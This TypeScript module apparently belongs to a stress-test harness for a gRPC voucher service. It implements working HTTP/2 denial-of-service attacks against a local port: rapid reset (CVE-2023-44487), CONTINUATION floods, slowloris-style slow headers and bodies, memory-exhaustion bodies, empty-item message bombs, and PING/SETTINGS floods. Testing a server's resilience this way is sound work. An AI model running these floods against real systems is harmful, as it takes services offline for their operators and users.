import { connect } from 'node:http2';
import { setTimeout as sleep } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { CALL_HEADERS, H2, H2Wire, h2Frame, headerBlock } from './h2-wire.js';
import { bytesField } from './protobuf.js';
import { frame, RawConnection } from './raw-grpc.js';

/** An attack: opens connections to the port, does its worst for a few seconds and leaves. */
export type Attack = (port: number) => Promise<void>;

const CALL = headerBlock(CALL_HEADERS);
const open = (stream: number, block: Uint8Array = CALL, flags: number = H2.endHeaders) =>
  h2Frame(H2.headers, flags, stream, block);

function wires(port: number, count: number): H2Wire[] {
  return Array.from({ length: count }, () => new H2Wire(port));
}

async function closeAll(all: readonly H2Wire[]): Promise<void> {
  await Promise.all(all.map((wire) => wire.drained()));
  for (const wire of all) wire.close();
}

/** Streams that begin with everything but a proper request. */
const malformedStarts: Attack = async (port) => {
  const without = (name: string) => headerBlock(CALL_HEADERS.filter(([key]) => key !== name));
  const withField = (name: string, value: string) => headerBlock([...CALL_HEADERS, [name, value]]);
  const starts: Buffer[][] = [
    [Buffer.from('GET / HTTP/1.1\r\nHost: x\r\n\r\n')],
    [Buffer.alloc(4_096, 0xff)],
    [open(1, without(':path'))],
    [open(1, without(':method'))],
    [open(1, without('content-type'))],
    [open(1, headerBlock([...CALL_HEADERS].reverse()))],
    [open(1, withField('UPPER', 'x'))],
    [open(1, withField('connection', 'close'))],
    [open(1, withField(':path', '/twice'))],
    [open(1, withField('grpc-timeout', '99999999999H'))],
    [open(1, withField('grpc-encoding', 'gzip'), 5)],
    [open(1, Buffer.alloc(200, 0xff))],
    [open(1, Buffer.from([0x80]))],
    [open(0)],
    [open(2)],
    [h2Frame(H2.data, 0, 0, frame(Buffer.alloc(3)))],
    [h2Frame(H2.data, 1, 7, frame(Buffer.alloc(3)))],
    [open(1), h2Frame(H2.data, 1, 1, Buffer.alloc(3))],
    [open(1), h2Frame(H2.data, 1, 1, frame(Buffer.alloc(0), 1))],
    [open(1), h2Frame(H2.data, 9, 1, Buffer.from([255, 1, 2]))],
    [open(1), open(1)],
    [open(3), open(1)],
    [h2Frame(H2.continuation, 4, 1, CALL)],
    [open(1, CALL.subarray(0, 20), 0), h2Frame(H2.ping, 0, 0, Buffer.alloc(8))],
    [h2Frame(H2.settings, 0, 0, Buffer.alloc(5))],
    [h2Frame(H2.settings, 0, 0, Buffer.from([0, 4, 0xff, 0xff, 0xff, 0xff]))],
    [h2Frame(H2.windowUpdate, 0, 0, Buffer.alloc(4))],
    [open(1), h2Frame(H2.windowUpdate, 0, 1, Buffer.from([0x7f, 0xff, 0xff, 0xff]))],
    [h2Frame(H2.data, 0, 1, Buffer.alloc(0), 0xff_ffff)],
    [h2Frame(0xee, 0xff, 1, Buffer.alloc(64))],
  ];
  for (let round = 0; round < 10; round++) {
    const all = starts.map((chunks, at) => {
      const wire = new H2Wire(port);
      if (at > 1) wire.greet();
      wire.write(...chunks);
      return wire;
    });
    await sleep(50);
    await closeAll(all);
  }
};

/** CVE-2023-44487: streams that are opened and reset at once. */
const rapidReset: Attack = async (port) => {
  const all = wires(port, 8);
  for (const wire of all) wire.greet();
  for (let stream = 1; stream < 20_000; stream += 200) {
    for (const wire of all) {
      const burst = Array.from({ length: 100 }, (_, at) => [
        open(stream + 2 * at),
        h2Frame(H2.reset, 0, stream + 2 * at, Buffer.from([0, 0, 0, 8])),
      ]).flat();
      wire.write(...burst);
    }
    await sleep(5);
  }
  await closeAll(all);
};

/** Headers that go on for ever in CONTINUATION frames. */
const continuationFlood: Attack = async (port) => {
  const all = wires(port, 8);
  const more = headerBlock(Array.from({ length: 400 }, (_, at) => [`x-${at}`, 'y'.repeat(20)]));
  for (const wire of all) {
    wire.greet();
    wire.write(open(1, CALL, 0));
  }
  for (let round = 0; round < 400; round++) {
    for (const wire of all) wire.write(h2Frame(H2.continuation, 0, 1, more));
    await sleep(2);
  }
  await closeAll(all);
};

/** Connections that say nothing, or their headers a byte a second. */
const slowStarts: Attack = async (port) => {
  const all = wires(port, 400);
  all.forEach((wire, at) => {
    if (at % 2 === 0) wire.greet();
  });
  const start = open(1);
  for (let byte = 0; byte < 3; byte++) {
    all.forEach((wire, at) => {
      if (at % 4 === 0) wire.write(start.subarray(byte, byte + 1));
    });
    await sleep(1_000);
  }
  await closeAll(all);
};

/** Calls whose body of a mebibyte comes a byte a second. */
const slowBodies: Attack = async (port) => {
  const all = wires(port, 50);
  const head = frame(Buffer.alloc(0), 0, 1_000_000);
  for (const wire of all) {
    wire.greet();
    for (let stream = 1; stream < 80; stream += 2) {
      wire.write(open(stream), h2Frame(H2.data, 0, stream, head));
    }
  }
  for (let second = 0; second < 3; second++) {
    for (const wire of all) wire.write(h2Frame(H2.data, 0, 1, Buffer.alloc(1)));
    await sleep(1_000);
  }
  await closeAll(all);
};

/** Calls that send their body of a mebibyte but for its last bytes: a gibibyte together. */
const unfinishedBodies: Attack = async (port) => {
  const head = frame(Buffer.alloc(0), 0, 1_000_000);
  const body = Buffer.concat([head, Buffer.alloc(990_000)]);
  const sessions = Array.from({ length: 18 }, () => {
    const session = connect(`http://127.0.0.1:${port}`);
    session.on('error', () => undefined);
    for (let call = 0; call < 60; call++) {
      const stream = session.request(Object.fromEntries(CALL_HEADERS));
      stream.on('error', () => undefined);
      stream.write(body);
    }
    return session;
  });
  await sleep(4_000);
  for (const session of sessions) session.destroy();
};

/** A batch of a stream with so many empty vouchers, each two bytes on the wire. */
const emptyItems = (count: number) =>
  bytesField(2, Buffer.alloc(2 * count, bytesField(1, Buffer.alloc(0))));

/** Messages of half a million empty items, four at a time for three seconds. */
function emptyItemsAs(body: Buffer, headers: Record<string, string> = {}): Attack {
  return async (port) => {
    const connection = new RawConnection(port);
    const untilMs = performance.now() + 3_000;
    const attacker = async () => {
      while (performance.now() < untilMs && connection.isOpen) {
        await connection.call('StreamVouchers', [body], headers);
      }
    };
    await Promise.all(Array.from({ length: 4 }, attacker));
    connection.close();
  };
}

const EMPTY_ITEMS = emptyItems(524_000);

/** Streams that take no answer, so that nobody reads on, and then send two mebibytes in whole messages: 1.4 GiB together. */
const wholeButUnread: Attack = async (port) => {
  const tiny = frame(emptyItems(0));
  const large = frame(bytesField(9, Buffer.alloc(1_000_000)));
  const sessions = Array.from({ length: 12 }, () => {
    const session = connect(`http://127.0.0.1:${port}`, { settings: { initialWindowSize: 0 } });
    session.on('error', () => undefined);
    const headers = {
      ...Object.fromEntries(CALL_HEADERS),
      ':path': '/swarmledger.v1.VoucherService/StreamVouchers',
    };
    for (let call = 0; call < 60; call++) {
      const stream = session.request(headers);
      stream.on('error', () => undefined);
      for (const message of [tiny, tiny, large, large]) stream.write(message);
    }
    return session;
  });
  await sleep(4_000);
  for (const session of sessions) session.destroy();
};

/** Single calls whose message is whole, and which do not end: 0.3 GiB together. */
const wholeButOpen: Attack = async (port) => {
  const body = frame(bytesField(9, Buffer.alloc(1_000_000)));
  const connections = Array.from({ length: 6 }, () => new RawConnection(port));
  for (let call = 0; call < 60; call++) {
    for (const connection of connections) connection.open('PostVouchers').write(body);
    await sleep(60);
  }
  for (const connection of connections) connection.close();
};

/** Clients that ask and ask, and take no answer. */
const neverReading: Attack = async (port) => {
  const all = wires(port, 20);
  for (const wire of all) {
    wire.greet(0);
    wire.stopReading();
  }
  const body = frame(Buffer.from([10, 0]));
  for (let stream = 1; stream < 4_000; stream += 2) {
    for (const wire of all) wire.write(open(stream), h2Frame(H2.data, 1, stream, body));
    if (stream % 100 === 1) await sleep(10);
  }
  await sleep(1_000);
  for (const wire of all) wire.close();
};

/** Control frames that each ask for an answer. */
const pingFlood: Attack = async (port) => {
  const all = wires(port, 8);
  const pings = Buffer.concat(
    Array.from({ length: 200 }, () => h2Frame(H2.ping, 0, 0, Buffer.alloc(8))),
  );
  const settings = Buffer.concat(Array.from({ length: 200 }, () => h2Frame(H2.settings, 0, 0)));
  all.forEach((wire, at) => {
    wire.greet();
    if (at % 2 === 0) wire.stopReading();
  });
  for (let round = 0; round < 100; round++) {
    all.forEach((wire, at) => {
      wire.write(at % 4 < 2 ? pings : settings);
    });
    await sleep(5);
  }
  for (const wire of all) wire.close();
};

/** Every attack by its name. */
export const H2_ATTACKS: Readonly<Record<string, Attack>> = {
  'malformed starts of streams': malformedStarts,
  'rapid reset': rapidReset,
  'a CONTINUATION flood': continuationFlood,
  'slow starts': slowStarts,
  'bodies of a byte a second': slowBodies,
  'bodies that lack their last bytes': unfinishedBodies,
  'messages of empty items': emptyItemsAs(frame(EMPTY_ITEMS)),
  'compressed messages of empty items': emptyItemsAs(frame(gzipSync(EMPTY_ITEMS), 1), {
    'grpc-encoding': 'gzip',
  }),
  'whole messages on streams that nobody reads': wholeButUnread,
  'whole messages of calls that do not end': wholeButOpen,
  'clients that never read': neverReading,
  'floods of PING and SETTINGS': pingFlood,
};
